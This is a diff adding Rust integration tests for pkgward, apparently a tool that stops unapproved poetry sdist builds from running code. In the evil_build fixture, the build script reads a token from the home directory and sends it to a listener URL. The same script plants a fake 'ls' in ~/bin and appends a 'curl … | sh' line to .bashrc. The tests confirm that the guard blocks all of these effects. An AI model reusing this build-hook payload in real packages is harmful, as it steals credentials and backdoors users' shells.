@@ -1,0 +1,506 @@
+//! poetry's sdist builds, end to end with the real poetry behind the
+//! pkgward shim against the loopback index (a `[[tool.poetry.source]]`,
+//! primary): an sdist whose build writes a marker, sends a fake token read
+//! from `$HOME` to a loopback listener through urllib, drops an executable
+//! into `~/bin` and appends to `~/.bashrc`. Its metadata does not list its
+//! requirements (Metadata-Version 2.1, no `Requires-Dist`), so poetry builds
+//! it already while resolving. Unapproved, none of that happens — not in
+//! `poetry lock`, not in `poetry install` with or without a lock, whatever
+//! poetry's no-binary settings say — and the invocation is denied (77) with
+//! the approve command; approved, poetry builds it in its traced run and
+//! each build is recorded. Wheels still install.
+
+mod support;
+
+use std::os::unix::fs::PermissionsExt;
+use std::process::Output;
+use std::sync::OnceLock;
+
+use support::guard::{pkgward_bin, text, to_env, Guarded};
+use support::registry::Listener;
+use support::tools::{real_python, EnvList};
+use support::{py_marker, shared, Sdist, Wheel};
+
+fn evil_build() -> String {
+    format!(
+        "{marker}\
+         import os, urllib.request\n\
+         _h = os.path.expanduser('~')\n\
+         _url = open(os.path.join(_h, '.exfil-url')).read().strip()\n\
+         _tok = open(os.path.join(_h, '.fake-token')).read().strip()\n\
+         try:\n    urllib.request.urlopen(_url + '/py?t=' + _tok, data=_tok.encode(), timeout=5)\n\
+         except Exception:\n    pass\n\
+         os.makedirs(os.path.join(_h, 'bin'), exist_ok=True)\n\
+         with open(os.path.join(_h, 'bin', 'ls'), 'w') as _f:\n    _f.write('#!/bin/sh\\necho pwned\\n')\n\
+         os.chmod(os.path.join(_h, 'bin', 'ls'), 0o755)\n\
+         with open(os.path.join(_h, '.bashrc'), 'a') as _f:\n    _f.write('curl ' + _url + '/rc | sh\\n')\n",
+        marker = py_marker("sdist-built"),
+    )
+}
+
+fn fixtures() {
+    static DONE: OnceLock<()> = OnceLock::new();
+    DONE.get_or_init(|| {
+        let r = shared();
+        r.publish_sdist(
+            &Sdist::new("pw-po-sdist", "1.0.0")
+                .module("VALUE = 'built'\n")
+                .build_code(&evil_build()),
+        );
+        r.publish_wheel(&Wheel::new("pw-po-wheel", "1.0.0").module("VALUE = 'wheel'\n"));
+        // An sdist whose unpacked PKG-INFO claims to be the approved one.
+        r.publish_sdist(
+            &Sdist::new("pw-po-liar", "1.0.0")
+                .module("VALUE = 'liar'\n")
+                .file(
+                    "PKG-INFO",
+                    "Metadata-Version: 2.1\nName: pw-po-sdist\nVersion: 1.0.0\n",
+                )
+                .build_code(&evil_build()),
+        );
+        // A wheel and an sdist: wheels only takes the wheel.
+        r.publish_wheel(&Wheel::new("pw-po-both", "1.0.0").module("VALUE = 'wheel'\n"));
+        r.publish_sdist(
+            &Sdist::new("pw-po-both", "1.0.0")
+                .module("VALUE = 'built'\n")
+                .build_code(&evil_build()),
+        );
+    });
+}
+
+struct T {
+    g: Guarded,
+    exfil: Listener,
+}
+
+fn setup(policy_extra: &str) -> T {
+    fixtures();
+    let exfil = Listener::start();
+    // The egress proxy lets the listener through: these tests are about
+    // which code runs, whichever way it connects.
+    let host = exfil
+        .base_url()
+        .trim_start_matches("http://")
+        .trim_end_matches('/')
+        .to_string();
+    let policy = format!(
+        "mode = \"enforce\"\n[registries]\npypi = [\"{}\"]\n[network]\nallow = [\"{host}\"]\n{policy_extra}",
+        shared().pypi_index_url()
+    );
+    let g = Guarded::new(&policy);
+    std::os::unix::fs::symlink(pkgward_bin(), g.shims.join("poetry")).unwrap();
+    // poetry as this machine's Python runs it (a pyenv shim would need the
+    // real HOME).
+    let p = g.real.join("poetry");
+    std::fs::write(
+        &p,
+        format!(
+            "#!/bin/sh\nexec '{}' -m poetry \"$@\"\n",
+            real_python().display()
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let h = &g.sb.home;
+    std::fs::write(h.join(".fake-token"), "tok-s3cret\n").unwrap();
+    std::fs::write(h.join(".bashrc"), "# rc\n").unwrap();
+    std::fs::write(h.join(".exfil-url"), exfil.base_url()).unwrap();
+    T { g, exfil }
+}
+
+fn poetry_env(t: &T) -> EnvList {
+    let r = t.g.sb.root();
+    vec![
+        ("POETRY_CACHE_DIR".into(), r.join("poetry-cache").into()),
+        ("POETRY_CONFIG_DIR".into(), r.join("poetry-config").into()),
+        ("POETRY_DATA_DIR".into(), r.join("poetry-data").into()),
+        ("POETRY_VIRTUALENVS_IN_PROJECT".into(), "true".into()),
+        ("POETRY_VIRTUALENVS_USE_POETRY_PYTHON".into(), "true".into()),
+        ("POETRY_NO_INTERACTION".into(), "1".into()),
+        ("POETRY_KEYRING_ENABLED".into(), "false".into()),
+        (
+            "PYTHON_KEYRING_BACKEND".into(),
+            "keyring.backends.null.Keyring".into(),
+        ),
+        ("PYTHONNOUSERSITE".into(), "1".into()),
+        ("PYTHONDONTWRITEBYTECODE".into(), "1".into()),
+        ("PIP_CONFIG_FILE".into(), "/dev/null".into()),
+    ]
+}
+
+fn poetry(t: &T, args: &[&str], extra: &[(&str, &str)]) -> Output {
+    t.g.sb
+        .command("poetry", &[poetry_env(t), t.g.pkgward_env(), to_env(extra)])
+        .args(args)
+        .output()
+        .unwrap()
+}
+
+fn project(t: &T, deps: &[&str], lock: Option<&str>) {
+    let deps: Vec<String> = deps.iter().map(|d| format!("{d:?}")).collect();
+    t.g.sb.write(
+        "pyproject.toml",
+        format!(
+            "[project]\nname = \"pw-po-proj\"\nversion = \"0.1.0\"\n\
+             requires-python = \">=3.8\"\ndependencies = [{}]\n\n\
+             [tool.poetry]\npackage-mode = false\n\n\
+             [[tool.poetry.source]]\nname = \"loopback\"\nurl = \"{}\"\npriority = \"primary\"\n",
+            deps.join(", "),
+            shared().pypi_index_url()
+        ),
+    );
+    match lock {
+        Some(l) => {
+            t.g.sb.write("poetry.lock", l);
+        }
+        None => {
+            let _ = std::fs::remove_file(t.g.sb.work.join("poetry.lock"));
+        }
+    }
+}
+
+fn no_effects(t: &T, what: &str) {
+    assert_eq!(
+        t.g.sb.marker("sdist-built"),
+        None,
+        "{what}: the sdist was built"
+    );
+    assert_eq!(
+        t.exfil.connections().len(),
+        0,
+        "{what}: the listener was reached"
+    );
+    assert_eq!(
+        std::fs::read_to_string(t.g.sb.home.join(".bashrc")).unwrap(),
+        "# rc\n",
+        "{what}"
+    );
+    assert!(!t.g.sb.home.join("bin/ls").exists(), "{what}");
+}
+
+fn script_records(t: &T) -> Vec<serde_json::Value> {
+    t.g.audit()
+        .into_iter()
+        .filter(|r| r["kind"] == "script" && r["package"] != "*")
+        .collect()
+}
+
+/// Whether the project environment has `module` installed.
+fn in_venv(t: &T, module: &str) -> bool {
+    let lib = t.g.sb.work.join(".venv/lib");
+    std::fs::read_dir(&lib).is_ok_and(|d| {
+        d.flatten()
+            .any(|py| py.path().join("site-packages").join(module).exists())
+    })
+}
+
+fn assert_denied(t: &T, o: &Output, what: &str) {
+    assert_eq!(o.status.code(), Some(77), "{what}: {}", text(&o.stderr));
+    assert!(
+        text(&o.stderr).contains("pkgward approve pypi:pw-po-sdist@1.0.0"),
+        "{what}: {}",
+        text(&o.stderr)
+    );
+    no_effects(t, what);
+    let recs = script_records(t);
+    let last = recs.last().expect("a script record");
+    assert_eq!(last["package"], "pw-po-sdist", "{what}");
+    assert_eq!(last["version"], "1.0.0", "{what}");
+    assert_eq!(last["decision"], "deny", "{what}");
+    assert_eq!(last["ran"], false, "{what}");
+    assert_eq!(
+        last["invocation_id"],
+        t.g.last_invocation()["invocation_id"],
+        "{what}"
+    );
+    assert!(!in_venv(t, "pw_po_sdist"), "{what}");
+}
+
+const APPROVED: &str =
+    "[scripts]\nallow = [\"pypi:PW_po.sdist@>=1,<2\"]\n[sandbox]\nconfine_approved = false\n";
+
+/// A `poetry.lock` of the sdist project, made through pkgward with the
+/// sdist approved (in a sandbox of its own); the approved build while
+/// resolving is checked on the way.
+fn approved_lock() -> String {
+    static LOCK: OnceLock<String> = OnceLock::new();
+    LOCK.get_or_init(|| {
+        let t = setup(APPROVED);
+        project(&t, &["pw-po-sdist", "pw-po-wheel"], None);
+        let o = poetry(&t, &["lock"], &[]);
+        assert!(o.status.success(), "{}", text(&o.stderr));
+        // Resolving built the sdist's metadata: its code ran, approved.
+        assert_eq!(t.g.sb.marker("sdist-built").as_deref(), Some("ran\n"));
+        let recs = script_records(&t);
+        let last = recs.last().expect("a script record");
+        assert_eq!(last["package"], "pw-po-sdist");
+        assert_eq!(last["version"], "1.0.0");
+        assert_eq!(last["decision"], "approved");
+        assert_eq!(last["ran"], true);
+        assert_eq!(last["exit_code"], 0);
+        assert!(last["approved_by"]
+            .as_str()
+            .unwrap()
+            .starts_with("pypi:PW_po.sdist@>=1,<2"));
+        std::fs::read_to_string(t.g.sb.work.join("poetry.lock")).unwrap()
+    })
+    .clone()
+}
+
+/// Unapproved: resolving (`poetry lock`, `poetry install` without a lock)
+/// stops before the sdist's metadata build; installing from the lock is
+/// denied before poetry runs, whatever no-binary setting asks for the
+/// sdist; each time with exit 77, the approve command and a deny record.
+#[test]
+fn an_unapproved_sdist_never_builds() {
+    let lock = approved_lock();
+    for extra in ["", "[scripts]\nallow = [\"pypi:someone-else\"]\n"] {
+        let t = setup(extra);
+        project(&t, &["pw-po-sdist", "pw-po-wheel"], None);
+        let o = poetry(&t, &["lock"], &[]);
+        assert_denied(&t, &o, "poetry lock");
+        assert!(!t.g.sb.work.join("poetry.lock").exists());
+        if !extra.is_empty() {
+            continue;
+        }
+        // The user's no-binary settings make no difference.
+        let o = poetry(
+            &t,
+            &["install"],
+            &[("POETRY_INSTALLER_NO_BINARY", "pw-po-sdist")],
+        );
+        assert_denied(&t, &o, "poetry install without a lock");
+        project(&t, &["pw-po-sdist", "pw-po-wheel"], Some(&lock));
+        t.g.sb.write(
+            "poetry.toml",
+            "[installer]\nno-binary = [\"pw-po-sdist\"]\n",
+        );
+        for (what, env) in [
+            ("poetry install", vec![]),
+            (
+                "POETRY_INSTALLER_ONLY_BINARY=:none:",
+                vec![("POETRY_INSTALLER_ONLY_BINARY", ":none:")],
+            ),
+        ] {
+            let o = poetry(&t, &["install"], &env);
+            assert_denied(&t, &o, what);
+        }
+        let o = poetry(&t, &["sync"], &[]);
+        assert_denied(&t, &o, "poetry sync");
+    }
+}
+
+/// An approval whose range does not cover the version is no approval:
+/// from the lock (decided before poetry runs) and while resolving (decided
+/// by the guard, at the version poetry builds).
+#[test]
+fn an_approval_outside_its_range_builds_nothing() {
+    let lock = approved_lock();
+    let t = setup("[scripts]\nallow = [\"pypi:pw-po-sdist@<1\"]\n");
+    project(&t, &["pw-po-sdist", "pw-po-wheel"], Some(&lock));
+    let o = poetry(&t, &["install"], &[]);
+    assert_denied(&t, &o, "range outside, from the lock");
+    project(&t, &["pw-po-sdist", "pw-po-wheel"], None);
+    let o = poetry(&t, &["lock"], &[]);
+    assert_denied(&t, &o, "range outside, resolving");
+}
+
+/// Wheels install wheels-only, with no build — also for a package that
+/// has an sdist too, even when poetry's settings ask for its sdist.
+#[test]
+fn wheels_still_install() {
+    let t = setup("");
+    project(&t, &["pw-po-wheel", "pw-po-both"], None);
+    t.g.sb
+        .write("poetry.toml", "[installer]\nno-binary = [\"pw-po-both\"]\n");
+    let o = poetry(&t, &["install"], &[("POETRY_INSTALLER_NO_BINARY", ":all:")]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert!(in_venv(&t, "pw_po_wheel"));
+    assert!(in_venv(&t, "pw_po_both"));
+    no_effects(&t, "wheels");
+    assert!(script_records(&t).is_empty());
+    let lib = t.g.sb.work.join(".venv/lib");
+    let py = std::fs::read_dir(&lib)
+        .unwrap()
+        .next()
+        .unwrap()
+        .unwrap()
+        .path();
+    let v = std::fs::read_to_string(py.join("site-packages/pw_po_both/__init__.py")).unwrap();
+    assert!(v.contains("wheel"), "{v}");
+}
+
+/// Approved: poetry builds the sdist in its traced run (while resolving and
+/// while installing from the lock), and each build is an approved `script`
+/// record with its exit code and duration.
+#[test]
+fn an_approved_sdist_builds_and_is_recorded() {
+    let lock = approved_lock();
+    let t = setup(APPROVED);
+    project(&t, &["pw-po-sdist", "pw-po-wheel"], Some(&lock));
+    let o = poetry(&t, &["install"], &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert!(in_venv(&t, "pw_po_sdist"));
+    assert!(in_venv(&t, "pw_po_wheel"));
+    assert_eq!(t.g.sb.marker("sdist-built").as_deref(), Some("ran\n"));
+    let recs = script_records(&t);
+    let last = recs.last().expect("a script record");
+    assert_eq!(last["package"], "pw-po-sdist");
+    assert_eq!(last["version"], "1.0.0");
+    assert_eq!(last["script"], "build");
+    assert_eq!(last["decision"], "approved");
+    assert_eq!(last["ran"], true);
+    assert_eq!(last["exit_code"], 0);
+    assert!(last["duration_ms"].as_f64().is_some());
+    assert!(last["command"].as_str().unwrap().contains("build_wheel"));
+    assert_eq!(
+        last["invocation_id"],
+        t.g.last_invocation()["invocation_id"]
+    );
+    // The installer ran wheels-only for every locked package but the
+    // approved one (an exact list: "wheels only, except"), no-binary off.
+    let switched =
+        t.g.audit()
+            .into_iter()
+            .rev()
+            .find(|r| r["kind"] == "script" && r["package"] == "*")
+            .unwrap();
+    let runner = switched["runner"].to_string();
+    assert!(
+        runner.contains("POETRY_INSTALLER_ONLY_BINARY=pw-po-wheel\""),
+        "{runner}"
+    );
+    assert!(
+        runner.contains("POETRY_INSTALLER_NO_BINARY=:none:"),
+        "{runner}"
+    );
+    // `poetry add` resolves and installs in one run: the installer is not
+    // held to wheels only there; the guard decides each build.
+    let t = setup(APPROVED);
+    project(&t, &["pw-po-wheel"], None);
+    let o = poetry(&t, &["add", "pw-po-sdist"], &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert!(in_venv(&t, "pw_po_sdist"));
+    let recs = script_records(&t);
+    assert!(!recs.is_empty());
+    assert!(recs.iter().all(|r| r["package"] == "pw-po-sdist"
+        && r["decision"] == "approved"
+        && r["exit_code"] == 0));
+    assert!(recs
+        .iter()
+        .any(|r| r["command"].as_str().unwrap().contains("build_wheel")));
+}
+
+/// The control: with `scripts.default = "allow"` the same resolution runs
+/// the sdist's build code (all of it), so the tests above prove pkgward
+/// stopped it.
+#[test]
+fn control_poetry_lock_runs_the_build_when_the_policy_allows_it() {
+    let t = setup("[scripts]\ndefault = \"allow\"\n");
+    project(&t, &["pw-po-sdist"], None);
+    let o = poetry(&t, &["lock"], &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(t.g.sb.marker("sdist-built").as_deref(), Some("ran\n"));
+    assert!(!t.exfil.connections().is_empty());
+}
+
+/// An approval names a package; an sdist that claims that name in its own
+/// metadata but is another package on the index is not approved by it.
+#[test]
+fn an_sdist_cannot_borrow_another_packages_approval() {
+    let t = setup(APPROVED);
+    project(&t, &["pw-po-liar"], None);
+    let o = poetry(&t, &["lock"], &[]);
+    assert_eq!(o.status.code(), Some(77), "{}", text(&o.stderr));
+    assert!(
+        text(&o.stderr).contains("pkgward approve pypi:pw_po_liar@1.0.0"),
+        "{}",
+        text(&o.stderr)
+    );
+    no_effects(&t, "impersonation");
+    let recs = script_records(&t);
+    assert_eq!(recs.last().unwrap()["decision"], "deny");
+}
+
+/// Approved builds run inside poetry's run, which pkgward cannot confine:
+/// where the policy requires the sandbox, poetry is stopped before the
+/// build (exit 78), and nothing of it runs.
+#[test]
+fn the_sandbox_requirement_refuses_an_unconfinable_build() {
+    let t = setup("[scripts]\nallow = [\"pypi:pw-po-sdist\"]\n[sandbox]\nrequire = true\n");
+    project(&t, &["pw-po-sdist"], None);
+    let o = poetry(&t, &["lock"], &[]);
+    assert_eq!(o.status.code(), Some(78), "{}", text(&o.stderr));
+    assert!(
+        text(&o.stderr).contains("cannot confine"),
+        "{}",
+        text(&o.stderr)
+    );
+    no_effects(&t, "sandbox required");
+}
+
+/// A project's required plugins are code poetry installs and runs in its
+/// own process on every command: unapproved, no poetry command runs
+/// (exit 77, the approve command), except with `--no-plugins`.
+#[test]
+fn unapproved_project_plugins_are_refused() {
+    let t = setup("");
+    project(&t, &["pw-po-wheel"], None);
+    let text_ = std::fs::read_to_string(t.g.sb.work.join("pyproject.toml")).unwrap();
+    t.g.sb.write(
+        "pyproject.toml",
+        format!("{text_}\n[tool.poetry.requires-plugins]\npw-po-plugin = \">=1\"\n"),
+    );
+    for args in [vec!["lock"], vec!["run", "python", "-c", "print(1)"]] {
+        let o = poetry(&t, &args, &[]);
+        assert_eq!(o.status.code(), Some(77), "{args:?}: {}", text(&o.stderr));
+        assert!(
+            text(&o.stderr).contains("pkgward approve pypi:pw-po-plugin"),
+            "{}",
+            text(&o.stderr)
+        );
+        assert!(!t.g.sb.work.join(".poetry").exists());
+    }
+    let inv = t.g.last_invocation();
+    assert_eq!(inv["decision"]["reasons"][0]["code"], "exec-not-approved");
+    let o = poetry(&t, &["lock", "--no-plugins"], &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert!(!t.g.sb.work.join(".poetry").exists());
+}
+
+/// A path dependency (here a directory outside the project) is read by
+/// running its backend too: decided like any package, by its name.
+#[test]
+fn a_path_dependency_is_decided_like_a_package() {
+    let t = setup("");
+    let tgz = Sdist::new("pw-po-local", "1.0.0")
+        .module("VALUE = 'local'\n")
+        .build_code(&evil_build())
+        .bytes();
+    let dest = t.g.sb.root().join("deps");
+    std::fs::create_dir_all(&dest).unwrap();
+    let mut tar = std::process::Command::new("tar")
+        .args(["xzf", "-", "-C"])
+        .arg(&dest)
+        .stdin(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    use std::io::Write;
+    tar.stdin.take().unwrap().write_all(&tgz).unwrap();
+    assert!(tar.wait().unwrap().success());
+    let dir = dest.join("pw_po_local-1.0.0");
+    assert!(dir.join("pyproject.toml").exists());
+    let dep = format!("pw-po-local @ file://{}", dir.display());
+    project(&t, &[&dep], None);
+    let o = poetry(&t, &["lock"], &[]);
+    assert_eq!(o.status.code(), Some(77), "{}", text(&o.stderr));
+    assert!(
+        text(&o.stderr).contains("pkgward approve pypi:pw-po-local@1.0.0"),
+        "{}",
+        text(&o.stderr)
+    );
+    no_effects(&t, "path dependency");
+    let recs = script_records(&t);
+    assert_eq!(recs.last().unwrap()["package"], "pw-po-local");
+    assert_eq!(recs.last().unwrap()["decision"], "deny");
+}
